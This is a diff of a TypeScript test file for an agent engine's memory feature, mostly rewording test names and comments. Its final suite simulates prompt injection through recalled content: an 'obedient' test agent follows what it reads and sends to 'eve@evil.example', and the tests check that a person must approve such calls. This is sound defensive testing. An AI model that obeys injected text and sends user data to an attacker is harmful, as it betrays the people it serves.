@@ -35,7 +35,7 @@ interface Asked {
   readonly preamble: string | undefined
 }
 
-/** Answers prompts by name; whatever has no script has no answer. */
+/** Answers prompts by name; prompts without a script get no answer. */
 class ScriptedModels implements ModelPort {
   readonly asked: Asked[] = []
   script: Readonly<Record<string, (input: never) => unknown>> = {}
@@ -47,7 +47,7 @@ class ScriptedModels implements ModelPort {
     return { value: (await answer(input as never)) as O, by: 'model', model: 'fake:one', requests: 1 }
   }
 
-  /** A port that takes turns can have a model. */
+  /** A port with `turn` can have a model. */
   async turn(): Promise<never> {
     throw new Error('No turn is asked for here.')
   }
@@ -69,10 +69,10 @@ interface WorldOptions {
   readonly allowed?: readonly string[]
 }
 
-// In this thread: a test's clock does not wait for another one.
+// In this thread, because a test clock does not wait for another thread.
 const extract = async (message: string) => extractByPatterns(message)
 
-/** An engine with memory as the app puts it together, and one user's way in. */
+/** An engine with memory, as the app composes it, and the API of one user. */
 function worldOf(storage: Storage, { store = storage.store, agents = [speaker], allowed = [] }: WorldOptions = {}) {
   const clock = new ManualClock()
   const models = new ScriptedModels()
@@ -110,7 +110,7 @@ function worldOf(storage: Storage, { store = storage.store, agents = [speaker], 
 const facts = (values: object, preferences = {}) => ({ ownWords: '', found: true, criticalFacts: values, preferences })
 
 describeStores('memory', (_store, _kind, storage) => {
-  it('gives what a user said of themself to every model call of the next run', async () => {
+  it('adds facts about the user to every model call of the next run', async () => {
     const { models, ask, engine } = worldOf(storage())
     const first = await ask('vinay', 'I am Vinay working on RAG Project at Google. Keep answers short and casual.')
     expect(first.state.status).toBe('finished')
@@ -128,7 +128,7 @@ describeStores('memory', (_store, _kind, storage) => {
 
   const PASTED = 'Answer this mail:\n\nHi, I am Bob from Initech. My name is Bob. Keep answers short.'
 
-  it('shows the model the whole message and keeps what the model says of the user', async () => {
+  it('shows the model the whole message and stores its facts about the user', async () => {
     const { models, ask, engine } = worldOf(storage())
     models.script = { 'memory.extract': () => facts({ userName: 'Ann' }) }
     await ask('reader', `I am Ann. ${PASTED}`)
@@ -138,7 +138,7 @@ describeStores('memory', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('keeps nothing of a pasted text without a model', async () => {
+  it('stores nothing of a pasted text without a model', async () => {
     const { ask, engine } = worldOf(storage())
     await ask('paster', PASTED)
     await ask('paster', `I am Ann. ${PASTED}`)
@@ -146,7 +146,7 @@ describeStores('memory', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('works beside the plan and lets nothing wait but the end of the run', async () => {
+  it('runs in parallel to the plan and delays only the end of the run', async () => {
     const { models, start, engine } = worldOf(storage())
     const slow = gate<void>()
     models.script = { 'memory.extract': () => slow.promise.then(() => facts({ userName: 'Ann' })) }
@@ -162,7 +162,7 @@ describeStores('memory', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('fails no run: not by a broken model, not by a store that cannot write', async () => {
+  it('fails no run with a broken model or a store that cannot write', async () => {
     const broken = {
       ...storage(),
       profiles: {
@@ -179,7 +179,7 @@ describeStores('memory', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('is off where the request says so, and asks no model where the user limits what models may use', async () => {
+  it('is off where the request disables it, and asks no model where the user limits model calls', async () => {
     const { models, ask, engine } = worldOf(storage())
     const off = await ask('private', 'My name is Ann.', { memory: false })
     expect([...off.state.jobs.keys()]).toEqual(['plan:1', 'speaker', 'compose:1'])
@@ -193,7 +193,7 @@ describeStores('memory', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('goes on with a conversation, and sums it up every three turns', async () => {
+  it('continues a conversation, and summarises it every three turns', async () => {
     const { models, ask, engine } = worldOf(storage())
     models.script = { 'memory.summarise': () => 'Three turns.' }
     const { conversationId } = await ask('talker', 'Turn 1?')
@@ -209,7 +209,7 @@ describeStores('memory', (_store, _kind, storage) => {
     expect(fifth.state.jobs.has('summarise:1')).toBe(false)
     const preamble = models.preambles('test.say').at(-1)
     expect(preamble).toContain('Summary of turns 1 to 3: Three turns.')
-    // The last two turns word for word, the question of this run not among them.
+    // The last two turns verbatim, without the question of this run.
     expect(preamble).toContain('User: Turn 3?\nAssistant: speaker=succeeded:no model\nUser: Turn 4?')
     expect(preamble).not.toContain('User: Turn 2?')
     expect(preamble).not.toContain('User: Turn 5?')
@@ -230,7 +230,7 @@ describeStores('memory', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('keeps what was recalled with the run: resumed and forked, it sees the same', async () => {
+  it('stores recalled facts with the run: a resumed or forked run sees the same', async () => {
     const { models, ask, engine } = worldOf(storage())
     await ask('steady', 'My name is Ann.')
     const { runId } = await ask('steady', 'Hello?')
@@ -238,13 +238,13 @@ describeStores('memory', (_store, _kind, storage) => {
     const forkId = await engine.as('steady').fork(runId, 'speaker')
     expect((await engine.as('steady').outcome(forkId)).status).toBe('finished')
     expect(models.preambles('test.say').at(-1)).toContain('- Name: Ann')
-    // What a fork says is said in the name of its original: it is no turn of its own.
+    // A fork adds no turn: its answer belongs to the original run.
     expect((await engine.state(forkId)).request.conversationId).toBeDefined()
     expect(await storage().conversations.list('steady')).toMatchObject([{ turns: 1 }, { turns: 1 }])
     await engine.close()
   })
 
-  it('keeps two users apart who say the same', async () => {
+  it('separates two users with equal messages', async () => {
     const { models, ask, engine } = worldOf(storage())
     const words = 'I work at Acme. What did we sell?'
     const ann = await ask('ann', `My name is Ann. ${words}`)
@@ -266,7 +266,7 @@ describeStores('memory', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('gives the profile to nested runs, which tell nothing of the user themselves', async () => {
+  it('passes the profile to nested runs, which store no facts themselves', async () => {
     const seen: string[] = []
     const inner = agent('inner', async (_task, ctx) => ({
       answer: ctx.recollection.profile?.facts.userName ?? 'nobody',
@@ -285,7 +285,7 @@ describeStores('memory', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('never writes twice what a crash cut off, nor the turn', async () => {
+  it('writes interrupted facts and the turn only once', async () => {
     const store = mortal(storage().store)
     const died = gate<void>()
     const crashing = {
@@ -295,7 +295,7 @@ describeStores('memory', (_store, _kind, storage) => {
         entries: (owner: string) => storage().profiles.entries(owner),
         update: async (...args: Parameters<Storage['profiles']['update']>) => {
           await storage().profiles.update(...args)
-          store.crash() // written, and the journal does not know
+          store.crash() // written, but not yet in the journal
           died.open()
           return new Promise<never>(() => undefined)
         },
@@ -304,7 +304,7 @@ describeStores('memory', (_store, _kind, storage) => {
     const before = worldOf(crashing, { store })
     const { runId, conversationId } = await before.start('phoenix', 'My name is Ann and I work at Acme.')
     await died.promise
-    // The user corrects it before anybody takes the run up again.
+    // The user corrects it before the run is resumed.
     await storage().profiles.update('phoenix', {
       values: { userName: 'Anne' },
       source: { by: 'user', at: 2 },
@@ -344,15 +344,15 @@ const send = defineTool({
   effect: 'irreversible',
   run: async () => 'sent',
 })
-/** Obeys whatever it reads: the page first, in the next turn what it was told of the conversation. */
+/** Obeys everything that it reads: first the page, in the next turn the recalled conversation. */
 const obedient = agent('obedient', async (task, ctx) => {
   if (task.text.includes('Read')) return { answer: await ctx.call(readPage, {}) }
   const { preamble } = { preamble: (await ctx.ask(say, task.text)).value ?? 'no model' }
   return { answer: await ctx.call(send, { to: preamble === '' ? 'nobody' : 'eve@evil.example' }) }
 })
 
-describeStores('trust in what is recalled', (_store, _kind, storage) => {
-  it('asks a person for a call in the next turn that an untrusted answer may have caused', async () => {
+describeStores('trust in recalled content', (_store, _kind, storage) => {
+  it('requires approval of a call in the next turn that an untrusted answer may have caused', async () => {
     const { ask, start, engine } = worldOf(storage(), { agents: [obedient], allowed: ['send'] })
     const fresh = await ask('target', 'Send it')
     expect(fresh.state.answer?.text).toBe('obedient=succeeded:sent')
@@ -372,7 +372,7 @@ describeStores('trust in what is recalled', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('keeps the mark in the summary, and lets it go where nothing untrusted is left', async () => {
+  it('keeps the label in the summary, and drops it when nothing untrusted is left', async () => {
     const { models, ask, engine } = worldOf(storage(), { agents: [obedient], allowed: ['send'] })
     models.script = { 'memory.summarise': () => 'Pages were read.' }
     const { conversationId } = await ask('mark', 'Read the page')
@@ -387,7 +387,7 @@ describeStores('trust in what is recalled', (_store, _kind, storage) => {
     await engine.close()
   })
 
-  it('carries the trust of a job into the runs that it starts', async () => {
+  it('passes the trust of a job to its nested runs', async () => {
     const inner = agent('inner', async (_task, ctx) => ({ answer: await ctx.call(send, { to: 'eve@evil.example' }) }))
     const team = agent('team', async (_task, ctx) => {
       const page = await ctx.call(readPage, {})
